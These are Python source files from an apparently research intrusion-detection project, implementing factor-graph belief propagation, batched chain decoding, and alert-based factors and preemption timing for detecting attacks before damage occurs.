    def is_chain(self) -> bool:
        """Whether the graph is a tree/chain (no cycles), so BP is exact."""
        # A bipartite factor graph is acyclic iff #edges == #nodes - #components.
        edges = sum(f.arity for f in self._factors.values())
        nodes = len(self._variables) + len(self._factors)
        components = self._count_components()
        return edges == nodes - components

    def _count_components(self) -> int:
        seen: set[str] = set()
        components = 0
        adjacency: Dict[str, set[str]] = {f"v:{v}": set() for v in self._variables}
        for fname, factor in self._factors.items():
            adjacency[f"f:{fname}"] = set()
            for variable in factor.variables:
                adjacency[f"f:{fname}"].add(f"v:{variable.name}")
                adjacency[f"v:{variable.name}"].add(f"f:{fname}")
        for node in adjacency:
            if node in seen:
                continue
            components += 1
            stack = [node]
            while stack:
                current = stack.pop()
                if current in seen:
                    continue
                seen.add(current)
                stack.extend(adjacency[current] - seen)
        return components

    # -- inference ------------------------------------------------------------
    def _run_bp(
        self,
        *,
        max_product: bool,
        max_iterations: int = 50,
        damping: float = 0.0,
        tolerance: float = 1e-6,
    ) -> tuple[Dict[tuple[str, str], np.ndarray], Dict[tuple[str, str], np.ndarray]]:
        """Run (loopy) belief propagation; returns the two message maps.

        Messages are keyed ``(factor_name, variable_name)`` for
        factor-to-variable and ``(variable_name, factor_name)`` for
        variable-to-factor, all in normalised log space.
        """
        var_to_factor: Dict[tuple[str, str], np.ndarray] = {}
        factor_to_var: Dict[tuple[str, str], np.ndarray] = {}
        for fname, factor in self._factors.items():
            for variable in factor.variables:
                var_to_factor[(variable.name, fname)] = np.zeros(variable.cardinality)
                factor_to_var[(fname, variable.name)] = np.zeros(variable.cardinality)

        for _ in range(max_iterations):
            delta = 0.0
            # Factor -> variable messages.
            for fname, factor in self._factors.items():
                for target_index, target in enumerate(factor.variables):
                    incoming = factor.log_table.copy()
                    for other_index, other in enumerate(factor.variables):
                        if other_index == target_index:
                            continue
                        message = var_to_factor[(other.name, fname)]
                        shape = [1] * factor.arity
                        shape[other_index] = other.cardinality
                        incoming = incoming + message.reshape(shape)
                    axes = tuple(i for i in range(factor.arity) if i != target_index)
                    if axes:
                        if max_product:
                            reduced = np.max(incoming, axis=axes)
                        else:
                            reduced = incoming
                            for axis in sorted(axes, reverse=True):
                                reduced = _logsumexp(reduced, axis=axis)
                    else:
                        reduced = incoming
                    new_message = _normalize_log(reduced)
                    if damping > 0.0:
                        old = factor_to_var[(fname, target.name)]
                        new_message = _normalize_log(
                            damping * old + (1.0 - damping) * new_message
                        )
                    delta = max(
                        delta,
                        float(np.max(np.abs(new_message - factor_to_var[(fname, target.name)]))),
                    )
                    factor_to_var[(fname, target.name)] = new_message
            # Variable -> factor messages.
            for vname, variable in self._variables.items():
                adjacent = self._var_to_factors[vname]
                for fname in adjacent:
                    total = np.zeros(variable.cardinality)
                    for other_fname in adjacent:
                        if other_fname == fname:
                            continue
                        total = total + factor_to_var[(other_fname, vname)]
                    new_message = _normalize_log(total)
                    delta = max(
                        delta,
                        float(np.max(np.abs(new_message - var_to_factor[(vname, fname)]))),
                    )
                    var_to_factor[(vname, fname)] = new_message
            if delta < tolerance:
                break
        return var_to_factor, factor_to_var

    def marginals(
        self,
        *,
        max_iterations: int = 50,
        damping: float = 0.0,
    ) -> Dict[str, np.ndarray]:
        """Per-variable marginal distributions (sum-product BP).

        Returns a mapping ``variable name -> probability vector``.
        Exact on acyclic graphs; approximate (loopy BP) otherwise.
        """
        _, factor_to_var = self._run_bp(
            max_product=False, max_iterations=max_iterations, damping=damping
        )
        marginals: Dict[str, np.ndarray] = {}
        for vname, variable in self._variables.items():
            belief = np.zeros(variable.cardinality)
            for fname in self._var_to_factors[vname]:
                belief = belief + factor_to_var[(fname, vname)]
            belief = _normalize_log(belief)
            marginals[vname] = np.exp(belief)
        return marginals

    def map_assignment(
        self,
        *,
        max_iterations: int = 50,
        damping: float = 0.0,
    ) -> Dict[str, int]:
        """Most likely joint assignment (max-product BP / Viterbi on chains)."""
        _, factor_to_var = self._run_bp(
            max_product=True, max_iterations=max_iterations, damping=damping
        )
        assignment: Dict[str, int] = {}
        for vname, variable in self._variables.items():
            belief = np.zeros(variable.cardinality)
            for fname in self._var_to_factors[vname]:
                belief = belief + factor_to_var[(fname, vname)]
            assignment[vname] = int(np.argmax(belief))
        return assignment

    def log_score(self, assignment: Mapping[str, int]) -> float:
        """Unnormalised log score of a full assignment."""
        return float(sum(f.log_potential(assignment) for f in self._factors.values()))

    # -- exhaustive fallbacks (used in tests on tiny graphs) -------------------
    def brute_force_marginals(self) -> Dict[str, np.ndarray]:
        """Exact marginals by enumerating all joint assignments.

        Exponential in the number of variables; only usable on the very
        small graphs that unit tests construct to validate BP.
        """
        names = list(self._variables)
        cards = [self._variables[n].cardinality for n in names]
        total_states = int(np.prod(cards)) if cards else 0
        if total_states > 200_000:
            raise ValueError("graph too large for brute-force enumeration")
        marginals = {n: np.zeros(c) for n, c in zip(names, cards)}
        partition = 0.0
        weights = np.zeros(total_states)
        assignments = []
        for flat in range(total_states):
            assignment = {}
            rem = flat
            for n, c in zip(names, cards):
                assignment[n] = rem % c
                rem //= c
            assignments.append(assignment)
            weights[flat] = math.exp(self.log_score(assignment))
        partition = float(weights.sum())
        if partition <= 0.0:
            raise ValueError("all assignments have zero probability")
        for weight, assignment in zip(weights, assignments):
            for n in names:
                marginals[n][assignment[n]] += weight
        for n in names:
            marginals[n] /= partition
        return marginals

    def brute_force_map(self) -> Dict[str, int]:
        """Exact MAP assignment by enumeration (tiny graphs only)."""
        names = list(self._variables)
        cards = [self._variables[n].cardinality for n in names]
        total_states = int(np.prod(cards)) if cards else 0
        if total_states > 200_000:
            raise ValueError("graph too large for brute-force enumeration")
        best_assignment: Dict[str, int] = {}
        best_score = -np.inf
        for flat in range(total_states):
            assignment = {}
            rem = flat
            for n, c in zip(names, cards):
                assignment[n] = rem % c
                rem //= c
            score = self.log_score(assignment)
            if score > best_score:
                best_score = score
                best_assignment = assignment
        return best_assignment


def chain_map_decode(
    unary_log: np.ndarray,
    pairwise_log: np.ndarray,
) -> np.ndarray:
    """Viterbi decoding of a chain model, fully vectorised.

    Parameters
    ----------
    unary_log:
        Array of shape ``(T, K)`` of per-step log potentials.
    pairwise_log:
        Array of shape ``(K, K)`` of transition log potentials shared
        across steps (``pairwise_log[i, j]`` scores ``state_t=i,
        state_{t+1}=j``).

    Returns
    -------
    numpy.ndarray
        Integer array of length ``T`` with the MAP state sequence.

    This specialisation exists because the streaming detector re-decodes
    a chain after every alert; building a full :class:`FactorGraph` per
    decode would dominate runtime.  Results agree with
    :meth:`FactorGraph.map_assignment` on chain graphs (verified by the
    test suite).
    """
    unary_log = np.asarray(unary_log, dtype=np.float64)
    pairwise_log = np.asarray(pairwise_log, dtype=np.float64)
    if unary_log.ndim != 2:
        raise ValueError("unary_log must have shape (T, K)")
    steps, states = unary_log.shape
    if pairwise_log.shape != (states, states):
        raise ValueError("pairwise_log must have shape (K, K)")
    if steps == 0:
        return np.zeros(0, dtype=np.int64)
    score = unary_log[0].copy()
    backpointers = np.zeros((steps, states), dtype=np.int64)
    for t in range(1, steps):
        candidate = score[:, None] + pairwise_log
        backpointers[t] = np.argmax(candidate, axis=0)
        score = candidate[backpointers[t], np.arange(states)] + unary_log[t]
    path = np.zeros(steps, dtype=np.int64)
    path[-1] = int(np.argmax(score))
    for t in range(steps - 1, 0, -1):
        path[t - 1] = backpointers[t, path[t]]
    return path


def chain_marginals(
    unary_log: np.ndarray,
    pairwise_log: np.ndarray,
) -> np.ndarray:
    """Forward-backward marginals of a chain model, vectorised.

    Same conventions as :func:`chain_map_decode`; returns an array of
    shape ``(T, K)`` whose rows sum to one.
    """
    unary_log = np.asarray(unary_log, dtype=np.float64)
    pairwise_log = np.asarray(pairwise_log, dtype=np.float64)
    steps, states = unary_log.shape
    if steps == 0:
        return np.zeros((0, states), dtype=np.float64)
    forward = np.zeros((steps, states))
    backward = np.zeros((steps, states))
    forward[0] = _normalize_log(unary_log[0])
    for t in range(1, steps):
        prev = forward[t - 1][:, None] + pairwise_log
        forward[t] = _normalize_log(_logsumexp(prev, axis=0) + unary_log[t])
    backward[-1] = 0.0
    for t in range(steps - 2, -1, -1):
        nxt = pairwise_log + (unary_log[t + 1] + backward[t + 1])[None, :]
        backward[t] = _normalize_log(_logsumexp(nxt, axis=1))
    posterior = forward + backward
    posterior = posterior - _logsumexp(posterior, axis=1)[:, None]
    return np.exp(posterior)


# ---------------------------------------------------------------------------
# Semiring step-matrix helpers
# ---------------------------------------------------------------------------
#
# A chain decode is a product of per-step "transition ⊗ unary" matrices
# under a semiring: ``(max, +)`` for Viterbi scores, ``(logsumexp, +)``
# for forward (sum-product) messages.  The amortised sliding-window
# decoder (:mod:`repro.core.sliding_window`) aggregates these matrices
# with a two-stack queue so evicting the oldest step is O(K^3) amortised
# instead of an O(W * K^2) sequential rebuild.  K is tiny (the number of
# hidden states), so every product below is a single broadcast + reduce.


def chain_step_matrix(pairwise_log: np.ndarray, unary_row: np.ndarray) -> np.ndarray:
    """One step's combined transition⊗unary matrix.

    ``M[a, b] = pairwise_log[a, b] + unary_row[b]`` -- the log weight of
    moving from state ``a`` to state ``b`` while emitting this step's
    evidence.  The same matrix serves both semirings; only the reduction
    used to chain matrices differs.
    """
    return pairwise_log + unary_row[None, :]


def maxplus_matmul(a: np.ndarray, b: np.ndarray) -> np.ndarray:
    """(max, +) matrix product: ``C[i, j] = max_k A[i, k] + B[k, j]``."""
    return (a[:, :, None] + b[None, :, :]).max(axis=1)


def logsumexp_matmul(a: np.ndarray, b: np.ndarray) -> np.ndarray:
    """(logsumexp, +) matrix product: ``C[i, j] = lse_k A[i, k] + B[k, j]``.

    Step matrices are built from floored log probabilities, so every
    entry is normally finite and the plain max-shifted computation
    (which :func:`_logsumexp` reduces to on finite input) suffices --
    without the all-``-inf``-slice handling that dominates the cost at
    K = 3.  Hard zeros (``-inf``) in user-supplied tables propagate as
    NaN, which downstream guard-banded decisions treat as "consult the
    exact decode".
    """
    stacked = a[:, :, None] + b[None, :, :]
    shift = stacked.max(axis=1)
    with np.errstate(invalid="ignore", divide="ignore"):
        return shift + np.log(np.exp(stacked - shift[:, None, :]).sum(axis=1))


def maxplus_vecmat(v: np.ndarray, m: np.ndarray) -> np.ndarray:
    """(max, +) vector-matrix product: ``r[b] = max_a v[a] + M[a, b]``."""
    return (v[:, None] + m).max(axis=0)


def logsumexp_vecmat(v: np.ndarray, m: np.ndarray) -> np.ndarray:
    """(logsumexp, +) vector-matrix product: ``r[b] = lse_a v[a] + M[a, b]``.

    Same finite-input fast path (and NaN propagation on hard zeros) as
    :func:`logsumexp_matmul`.
    """
    stacked = v[:, None] + m
    shift = stacked.max(axis=0)
    with np.errstate(invalid="ignore", divide="ignore"):
        return shift + np.log(np.exp(stacked - shift[None, :]).sum(axis=0))


# ---------------------------------------------------------------------------
# Stacked (cross-entity) semiring products
# ---------------------------------------------------------------------------
#
# The batched decode kernel (:mod:`repro.core.batch_kernel`) advances N
# independent entities at once: it gathers each entity's operands into
# one contiguous ``(N, K, K)``/``(N, K)`` stack and runs a single
# broadcast + reduce over the stacked axis.  Slice ``n`` of every result
# is bit-identical to calling the scalar op on slice ``n`` alone: the
# adds, exps, logs, and (order-independent) max reductions are the same
# scalar operations, and at K = 3 numpy's pairwise summation degenerates
# to the same left-to-right 3-term sum either way.  The optional
# ``stacked_out``/``out`` buffers let the kernel reuse per-round scratch
# instead of allocating fresh ``(N, K, K, K)`` temporaries per alert.
#
# CAUTION: ``stacked_out`` is clobbered; ``out`` must not alias an input.


def maxplus_matmul_batch(
    a: np.ndarray,
    b: np.ndarray,
    *,
    stacked_out: Optional[np.ndarray] = None,
    out: Optional[np.ndarray] = None,
) -> np.ndarray:
    """Stacked (max, +) products: ``C[n] = maxplus_matmul(A[n], B[n])``."""
    stacked = np.add(a[:, :, :, None], b[:, None, :, :], out=stacked_out)
    return np.max(stacked, axis=2, out=out)


def logsumexp_matmul_batch(
    a: np.ndarray,
    b: np.ndarray,
    *,
    stacked_out: Optional[np.ndarray] = None,
    out: Optional[np.ndarray] = None,
) -> np.ndarray:
    """Stacked (logsumexp, +) products: ``C[n] = logsumexp_matmul(A[n], B[n])``.

    Same finite-input fast path (and NaN propagation on hard zeros) as
    the scalar op; the shift/exp/sum/log sequence is replayed verbatim
    over the stacked axis.
    """
    stacked = np.add(a[:, :, :, None], b[:, None, :, :], out=stacked_out)
    shift = stacked.max(axis=2)
    with np.errstate(invalid="ignore", divide="ignore"):
        np.subtract(stacked, shift[:, :, None, :], out=stacked)
        np.exp(stacked, out=stacked)
        summed = stacked.sum(axis=2, out=out)
        np.log(summed, out=summed)
        np.add(shift, summed, out=summed)
    return summed


def maxplus_vecmat_batch(
    v: np.ndarray,
    m: np.ndarray,
    *,
    stacked_out: Optional[np.ndarray] = None,
    out: Optional[np.ndarray] = None,
) -> np.ndarray:
    """Stacked (max, +) vec-mat products: ``R[n] = maxplus_vecmat(V[n], M[n])``."""
    stacked = np.add(v[:, :, None], m, out=stacked_out)
    return np.max(stacked, axis=1, out=out)


def logsumexp_vecmat_batch(
    v: np.ndarray,
    m: np.ndarray,
    *,
    stacked_out: Optional[np.ndarray] = None,
    out: Optional[np.ndarray] = None,
) -> np.ndarray:
    """Stacked (logsumexp, +) vec-mat products: ``R[n] = logsumexp_vecmat(V[n], M[n])``."""
    stacked = np.add(v[:, :, None], m, out=stacked_out)
    shift = stacked.max(axis=1)
    with np.errstate(invalid="ignore", divide="ignore"):
        np.subtract(stacked, shift[:, None, :], out=stacked)
        np.exp(stacked, out=stacked)
        summed = stacked.sum(axis=1, out=out)
        np.log(summed, out=summed)
        np.add(shift, summed, out=summed)
    return summed


# ---------------------------------------------------------------------------
# Batched chain inference
# ---------------------------------------------------------------------------
#
# The offline evaluation sweeps (threshold sweep, window sweep, k-fold)
# decode hundreds of alert sequences with the *same* transition table.
# Decoding them one at a time pays the NumPy call overhead per sequence
# per step; the batch variants below pad the sequences into one
# ``(N, T, K)`` tensor and run a single vectorised recursion over the
# shared time axis, masking steps past each sequence's true length.
# Results match the unbatched functions sequence-by-sequence (verified
# by the test suite on ragged inputs).


def _pad_unary_batch(
    unary_logs: Sequence[np.ndarray],
) -> tuple[np.ndarray, np.ndarray]:
    """Stack ragged ``(T_i, K)`` unary tables into ``(N, T_max, K)`` + lengths."""
    arrays = [np.asarray(u, dtype=np.float64) for u in unary_logs]
    if not arrays:
        return np.zeros((0, 0, 0), dtype=np.float64), np.zeros(0, dtype=np.int64)
    states = {a.shape[1] if a.ndim == 2 else -1 for a in arrays}
    if len(states) != 1 or -1 in states:
        raise ValueError("every unary table must have shape (T_i, K) with a shared K")
    k = states.pop()
    lengths = np.array([a.shape[0] for a in arrays], dtype=np.int64)
    padded = np.zeros((len(arrays), int(lengths.max(initial=0)), k), dtype=np.float64)
    for i, a in enumerate(arrays):
        padded[i, : a.shape[0]] = a
    return padded, lengths


def chain_map_decode_batch(
    unary_logs: Sequence[np.ndarray],
    pairwise_log: np.ndarray,
) -> list[np.ndarray]:
    """Viterbi-decode many chains in one padded tensor pass.

    Parameters
    ----------
    unary_logs:
        Sequence of per-chain log-potential tables, each of shape
        ``(T_i, K)`` (ragged lengths are fine).
    pairwise_log:
        Shared ``(K, K)`` transition log potentials.

    Returns
    -------
    list[numpy.ndarray]
        One integer MAP state path per input chain, matching
        :func:`chain_map_decode` applied to each chain individually.
    """
    pairwise_log = np.asarray(pairwise_log, dtype=np.float64)
    padded, lengths = _pad_unary_batch(unary_logs)
    n, t_max, k = padded.shape
    if pairwise_log.shape != (k, k) and n:
        raise ValueError("pairwise_log must have shape (K, K)")
    if n == 0:
        return []
    if t_max == 0:
        return [np.zeros(0, dtype=np.int64) for _ in range(n)]
    score = padded[:, 0].copy()  # (N, K)
    backpointers = np.zeros((n, t_max, k), dtype=np.int64)
    rows = np.arange(n)[:, None]
    cols = np.arange(k)[None, :]
    for t in range(1, t_max):
        candidate = score[:, :, None] + pairwise_log[None, :, :]  # (N, K, K)
        bp = np.argmax(candidate, axis=1)  # (N, K)
        backpointers[:, t] = bp
        new_score = candidate[rows, bp, cols] + padded[:, t]
        active = (t < lengths)[:, None]
        score = np.where(active, new_score, score)
    paths: list[np.ndarray] = []
    for i, length in enumerate(lengths):
        length = int(length)
        path = np.zeros(length, dtype=np.int64)
        if length == 0:
            paths.append(path)
            continue
        path[-1] = int(np.argmax(score[i]))
        for t in range(length - 1, 0, -1):
            path[t - 1] = backpointers[i, t, path[t]]
        paths.append(path)
    return paths


def chain_marginals_batch(
    unary_logs: Sequence[np.ndarray],
    pairwise_log: np.ndarray,
) -> list[np.ndarray]:
    """Forward-backward marginals for many chains in one padded pass.

    Same conventions as :func:`chain_map_decode_batch`; returns one
    ``(T_i, K)`` posterior table per chain, matching
    :func:`chain_marginals` applied individually.
    """
    pairwise_log = np.asarray(pairwise_log, dtype=np.float64)
    padded, lengths = _pad_unary_batch(unary_logs)
    n, t_max, k = padded.shape
    if n == 0:
        return []
    if t_max == 0:
        return [np.zeros((0, k)) for _ in range(n)]
    forward = np.zeros((n, t_max, k))
    backward = np.zeros((n, t_max, k))
    forward[:, 0] = padded[:, 0] - _logsumexp(padded[:, 0], axis=1)[:, None]
    for t in range(1, t_max):
        prev = forward[:, t - 1][:, :, None] + pairwise_log[None, :, :]
        new_row = _logsumexp(prev, axis=1) + padded[:, t]
        new_row = new_row - _logsumexp(new_row, axis=1)[:, None]
        active = (t < lengths)[:, None]
        forward[:, t] = np.where(active, new_row, forward[:, t])
    # Backward messages; rows at or past each chain's final step stay 0.
    for t in range(t_max - 2, -1, -1):
        nxt = pairwise_log[None, :, :] + (padded[:, t + 1] + backward[:, t + 1])[:, None, :]
        new_row = _logsumexp(nxt, axis=2)
        new_row = new_row - _logsumexp(new_row, axis=1)[:, None]
        active = (t + 1 < lengths)[:, None]
        backward[:, t] = np.where(active, new_row, backward[:, t])
    posterior = forward + backward
    posterior = posterior - _logsumexp(posterior, axis=2)[:, :, None]
    return [np.exp(posterior[i, : int(length)]) for i, length in enumerate(lengths)]


def chain_stream_trace_batch(
    unary_logs: Sequence[np.ndarray],
    pairwise_log: np.ndarray,
) -> list[tuple[np.ndarray, np.ndarray]]:
    """Per-prefix streaming outputs for many chains in one padded pass.

    For each chain this computes, at every step ``t``, exactly what a
    streaming detector would see after observing the prefix ``0..t``:

    * the posterior over the *current* (step-``t``) state given the
      prefix, i.e. the normalised forward message, and
    * the final state of the Viterbi decode of the prefix (the argmax
      of the running Viterbi score vector).

    Only valid when the per-step unary tables are prefix-stable (no
    evidence relocates onto earlier steps as the chain grows) -- true
    whenever pattern factors are absent.  Returns a list of
    ``(prefix_marginals (T_i, K), prefix_map_state (T_i,))`` pairs.
    """
    pairwise_log = np.asarray(pairwise_log, dtype=np.float64)
    padded, lengths = _pad_unary_batch(unary_logs)
    n, t_max, k = padded.shape
    if n == 0:
        return []
    if t_max == 0:
        return [(np.zeros((0, k)), np.zeros(0, dtype=np.int64)) for _ in range(n)]
    alpha = np.zeros((n, t_max, k))
    map_state = np.zeros((n, t_max), dtype=np.int64)
    alpha[:, 0] = padded[:, 0] - _logsumexp(padded[:, 0], axis=1)[:, None]
    score = padded[:, 0].copy()
    map_state[:, 0] = np.argmax(score, axis=1)
    rows = np.arange(n)[:, None]
    cols = np.arange(k)[None, :]
    for t in range(1, t_max):
        active = (t < lengths)[:, None]
        prev = alpha[:, t - 1][:, :, None] + pairwise_log[None, :, :]
        new_alpha = _logsumexp(prev, axis=1) + padded[:, t]
        new_alpha = new_alpha - _logsumexp(new_alpha, axis=1)[:, None]
        alpha[:, t] = np.where(active, new_alpha, alpha[:, t])
        candidate = score[:, :, None] + pairwise_log[None, :, :]
        bp = np.argmax(candidate, axis=1)
        new_score = candidate[rows, bp, cols] + padded[:, t]
        score = np.where(active, new_score, score)
        map_state[:, t] = np.where(active[:, 0], np.argmax(score, axis=1), map_state[:, t])
    traces: list[tuple[np.ndarray, np.ndarray]] = []
    for i, length in enumerate(lengths):
        length = int(length)
        rows_i = alpha[i, :length]
        marginals = np.exp(rows_i - _logsumexp(rows_i, axis=1)[:, None]) if length else np.zeros((0, k))
        traces.append((marginals, map_state[i, :length].copy()))
    return traces


__all__ = [
    "Variable",
    "Factor",
    "FactorGraph",
    "chain_map_decode",
    "chain_marginals",
    "chain_map_decode_batch",
    "chain_marginals_batch",
    "chain_stream_trace_batch",
    "chain_step_matrix",
    "maxplus_matmul",
    "logsumexp_matmul",
    "maxplus_vecmat",
    "logsumexp_vecmat",
    "maxplus_matmul_batch",
    "logsumexp_matmul_batch",
    "maxplus_vecmat_batch",
    "logsumexp_vecmat_batch",
]
