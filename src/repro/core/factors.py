"""Domain factors for the preemption model.

Three families of factors make up the ATTACKTAGGER-style model the
paper deploys on the testbed:

* **Observation factors** relate each observed symbolic alert to the
  hidden state of the entity at that point in time: the conditional
  probability of seeing a given alert type while the entity is benign,
  suspicious, or malicious.  These encode the paper's Remark 2 -- a
  decision must weigh the probability of an alert occurring in a
  successful attack against its probability under normal operation
  (mass scans have a huge false-positive rate; privilege escalation is
  conclusive but too late).
* **Transition factors** couple consecutive hidden states, encoding
  that entities do not oscillate arbitrarily between benign and
  malicious behaviour and that compromise tends to persist.
* **Pattern factors** reward state trajectories that are consistent
  with recurring alert sequences mined from past incidents (the S1..S43
  catalogue) -- the mechanism by which "present-day attacks are similar
  to past attacks" becomes usable evidence before damage occurs.

The learned numeric content of these factors lives in
:class:`FactorParameters`; estimation from a labelled corpus is in
:mod:`repro.core.training`.
"""

from __future__ import annotations

import dataclasses
from typing import Mapping, Optional, Sequence

import numpy as np

from .alerts import AlertVocabulary, DEFAULT_VOCABULARY
from .states import NUM_STATES, STAGE_STATE_PRIOR, HiddenState

#: Floor applied to probabilities before taking logarithms.
PROBABILITY_FLOOR = 1e-6


@dataclasses.dataclass
class FactorParameters:
    """Numeric parameters of the observation/transition/pattern factors.

    Attributes
    ----------
    vocabulary:
        The alert vocabulary the observation table is indexed by.
    observation_log:
        Array of shape ``(len(vocabulary), NUM_STATES)`` holding
        ``log P(alert | state)``.
    transition_log:
        Array of shape ``(NUM_STATES, NUM_STATES)`` holding
        ``log P(state_t+1 | state_t)``.
    initial_log:
        Length-``NUM_STATES`` log prior over the first hidden state.
    pattern_weights:
        Mapping from pattern name to a positive weight; a fully matched
        pattern adds ``weight`` to the log score of trajectories that
        end in the malicious state, a partially matched pattern adds a
        prorated share (see :meth:`pattern_bonus`).
    """

    vocabulary: AlertVocabulary
    observation_log: np.ndarray
    transition_log: np.ndarray
    initial_log: np.ndarray
    pattern_weights: dict[str, float] = dataclasses.field(default_factory=dict)

    def __post_init__(self) -> None:
        expected_obs = (len(self.vocabulary), NUM_STATES)
        if self.observation_log.shape != expected_obs:
            raise ValueError(
                f"observation_log shape {self.observation_log.shape} != {expected_obs}"
            )
        if self.transition_log.shape != (NUM_STATES, NUM_STATES):
            raise ValueError("transition_log must be (NUM_STATES, NUM_STATES)")
        if self.initial_log.shape != (NUM_STATES,):
            raise ValueError("initial_log must have length NUM_STATES")

    # -- lookups ---------------------------------------------------------
    def observation_row(self, alert_name: str) -> np.ndarray:
        """``log P(alert | state)`` for each state, for one alert type.

        Unknown alert types (never registered in the vocabulary used at
        training time) fall back to a stage-based prior so the detector
        degrades gracefully when new Zeek policies introduce new alert
        names -- exactly the adaptation loop the paper describes after
        the ransomware case study.
        """
        if alert_name in self.vocabulary:
            return self.observation_log[self.vocabulary.index_of(alert_name)]
        return default_observation_row()

    def pattern_bonus(self, matched: int, length: int, weight: float) -> float:
        """Log-score bonus for a pattern with ``matched`` of ``length`` alerts seen.

        A full match earns the full weight; a partial match earns a
        quadratically prorated share, so one shared foothold alert (very
        common across attacks, per Insight 1) contributes little while
        three-out-of-four matched alerts contribute most of the weight.
        """
        if length <= 0 or matched <= 0:
            return 0.0
        fraction = min(1.0, matched / length)
        return float(weight * fraction * fraction)

    def copy(self) -> "FactorParameters":
        """Deep copy (used by ablation studies that zero out factor families)."""
        return FactorParameters(
            vocabulary=self.vocabulary,
            observation_log=self.observation_log.copy(),
            transition_log=self.transition_log.copy(),
            initial_log=self.initial_log.copy(),
            pattern_weights=dict(self.pattern_weights),
        )

    # -- ablation helpers ----------------------------------------------------
    def without_transitions(self) -> "FactorParameters":
        """Parameters with the Markov coupling removed (uniform transitions)."""
        ablated = self.copy()
        ablated.transition_log = np.zeros((NUM_STATES, NUM_STATES))
        return ablated

    def without_patterns(self) -> "FactorParameters":
        """Parameters with all pattern factors removed."""
        ablated = self.copy()
        ablated.pattern_weights = {}
        return ablated

    def without_observations(self) -> "FactorParameters":
        """Parameters with uninformative observation factors (ablation only)."""
        ablated = self.copy()
        ablated.observation_log = np.zeros_like(self.observation_log)
        return ablated


def default_observation_row() -> np.ndarray:
    """Uninformative observation row used for out-of-vocabulary alerts."""
    return np.log(np.full(NUM_STATES, 1.0 / NUM_STATES))


def default_parameters(vocabulary: Optional[AlertVocabulary] = None) -> FactorParameters:
    """Untrained, prior-only parameters.

    Observation rows are seeded from each alert type's lifecycle stage
    via :data:`repro.core.states.STAGE_STATE_PRIOR`: an alert whose
    stage maps to the malicious state gets most of its probability mass
    there, and so on.  Transitions favour persistence (an entity that
    turned malicious stays malicious).  These priors are what an
    operator would configure on day one, before any incident corpus is
    available; :mod:`repro.core.training` sharpens them from data.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    observation = np.zeros((len(vocab), NUM_STATES), dtype=np.float64)
    for spec in vocab:
        row = np.full(NUM_STATES, 0.15, dtype=np.float64)
        prior_state = STAGE_STATE_PRIOR[spec.stage]
        row[int(prior_state)] = 0.7
        if spec.critical:
            # Critical alerts are conclusive evidence of compromise.
            row = np.array([0.02, 0.08, 0.90])
        observation[vocab.index_of(spec.name)] = row / row.sum()

    transition = np.array(
        [
            # from BENIGN       SUSPICIOUS  MALICIOUS
            [0.90, 0.09, 0.01],   # BENIGN ->
            [0.25, 0.60, 0.15],   # SUSPICIOUS ->
            [0.02, 0.08, 0.90],   # MALICIOUS ->
        ]
    )
    initial = np.array([0.90, 0.09, 0.01])

    return FactorParameters(
        vocabulary=vocab,
        observation_log=np.log(np.maximum(observation, PROBABILITY_FLOOR)),
        transition_log=np.log(np.maximum(transition, PROBABILITY_FLOOR)),
        initial_log=np.log(np.maximum(initial, PROBABILITY_FLOOR)),
        pattern_weights={},
    )


def observation_log_for_sequence(
    parameters: FactorParameters, names: Sequence[str]
) -> np.ndarray:
    """Stack observation rows for an alert-name sequence: shape ``(T, K)``."""
    if not names:
        return np.zeros((0, NUM_STATES), dtype=np.float64)
    return np.vstack([parameters.observation_row(name) for name in names])


def state_prior_counts(smoothing: float = 1.0) -> np.ndarray:
    """Dirichlet pseudo-counts used by the estimator for each state."""
    return np.full(NUM_STATES, float(smoothing))


def states_from_labels(labels: Sequence[int | HiddenState]) -> np.ndarray:
    """Normalise a label sequence to an integer array of hidden states."""
    return np.array([int(label) for label in labels], dtype=np.int64)


__all__ = [
    "PROBABILITY_FLOOR",
    "FactorParameters",
    "default_parameters",
    "default_observation_row",
    "observation_log_for_sequence",
    "state_prior_counts",
    "states_from_labels",
]
