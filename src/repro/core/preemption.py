"""Preemption semantics: damage boundaries and detection lead time.

The paper's objective is *attack preemption*: stopping system
compromise and data breaches before irreversible damage.  Whether a
detection "preempted" an attack therefore depends on two timestamps:

* the **damage boundary** of the attack -- the time of the first alert
  whose lifecycle stage indicates irreversible damage (actions on
  objective: exfiltration, mass encryption, trace wiping) or, absent
  such an alert, the end of the attack;
* the **detection time** reported by a detector.

A detection strictly before the damage boundary is a *preemption*; a
detection at or after it is a (late) detection; no detection at all is
a miss.  The case study quantifies the benefit in wall-clock terms: the
factor-graph model flagged the ransomware family's C2 communication
twelve days before the equivalent production incident was recorded.
This module provides those computations for individual attack
sequences and whole corpora.
"""

from __future__ import annotations

import dataclasses
import enum
from typing import Optional, Sequence

from .alerts import AlertVocabulary, DEFAULT_VOCABULARY
from .attack_tagger import Detection
from .sequences import AlertSequence
from .states import AttackStage


class PreemptionOutcome(enum.Enum):
    """Classification of a detector's result on one attack."""

    PREEMPTED = "preempted"          # detected strictly before damage
    DETECTED_LATE = "detected_late"  # detected, but at/after the damage boundary
    MISSED = "missed"                # never detected
    NOT_APPLICABLE = "not_applicable"  # benign sequence (nothing to preempt)


@dataclasses.dataclass(frozen=True)
class DamageBoundary:
    """The point in an attack after which damage is irreversible."""

    timestamp: Optional[float]
    alert_index: Optional[int]
    alert_name: Optional[str]

    @property
    def has_damage(self) -> bool:
        """Whether the attack ever reached a damage-stage alert."""
        return self.timestamp is not None


def find_damage_boundary(
    sequence: AlertSequence,
    vocabulary: Optional[AlertVocabulary] = None,
) -> DamageBoundary:
    """Locate the first damage-stage or critical alert in an attack.

    Both conditions mark irreversibility: damage-stage alerts by the
    lifecycle definition, and critical alerts by the paper's Insight 4
    ("their occurrence indicates that the system integrity has already
    been compromised").
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    for index, alert in enumerate(sequence):
        spec = vocab.get(alert.name)
        if spec.stage.is_damage or spec.critical:
            return DamageBoundary(timestamp=alert.timestamp, alert_index=index, alert_name=alert.name)
    return DamageBoundary(timestamp=None, alert_index=None, alert_name=None)


@dataclasses.dataclass(frozen=True)
class PreemptionResult:
    """Outcome of evaluating one detector decision against one attack."""

    outcome: PreemptionOutcome
    detection: Optional[Detection]
    damage: DamageBoundary
    lead_time_seconds: Optional[float]
    alerts_before_damage: Optional[int]

    @property
    def preempted(self) -> bool:
        """Whether the attack was preempted."""
        return self.outcome is PreemptionOutcome.PREEMPTED

    @property
    def detected(self) -> bool:
        """Whether the attack was detected at all (preempted or late)."""
